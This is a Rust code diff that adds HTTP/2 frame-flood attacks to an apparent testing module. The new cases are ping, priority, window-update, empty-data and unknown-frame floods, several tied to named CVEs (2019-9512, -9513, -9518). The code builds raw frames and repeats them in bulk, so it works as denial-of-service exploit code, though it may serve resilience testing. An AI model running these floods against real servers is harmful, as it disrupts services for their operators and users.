@@ -7,9 +7,12 @@ const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 
 const DATA: u8 = 0;
 const HEADERS: u8 = 1;
+const PRIORITY: u8 = 2;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
+const PING: u8 = 6;
 const GOAWAY: u8 = 7;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 
 const END_STREAM: u8 = 1;
@@ -123,6 +126,16 @@ pub enum Flood {
     Bomb,
     /// Settings, each of which wants an answer (CVE-2019-9515).
     Settings,
+    /// Pings, each of which wants an answer (CVE-2019-9512).
+    Pings,
+    /// Priorities of streams that there are not (CVE-2019-9513).
+    Priorities,
+    /// Room for one byte more, again and again.
+    WindowUpdates,
+    /// A body of frames without a byte (CVE-2019-9518).
+    EmptyData,
+    /// Frames of a kind that nobody knows.
+    Unknown,
 }
 
 /// Sends a flood, at most this many frames. Returns when the other side has closed the connection, or all is sent and
@@ -161,6 +174,18 @@ pub async fn flood(stream: impl AsyncRead + AsyncWrite + Unpin, flood: Flood, fr
             }
         }
         Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[]).repeat(frames as usize)),
+        Flood::Pings => bytes.extend(frame(PING, 0, 0, &[0; 8]).repeat(frames as usize)),
+        Flood::Priorities => {
+            bytes.extend(frame(PRIORITY, 0, 5, &[0, 0, 0, 0, 16]).repeat(frames as usize));
+        }
+        Flood::WindowUpdates => {
+            bytes.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(frames as usize));
+        }
+        Flood::EmptyData => {
+            bytes.extend(frame(HEADERS, END_HEADERS, 1, &head));
+            bytes.extend(frame(DATA, 0, 1, &[]).repeat(frames as usize));
+        }
+        Flood::Unknown => bytes.extend(frame(0x77, 0, 0, &[]).repeat(frames as usize)),
     }
     let last = 0x7fff_ffff;
     bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, last, &head));
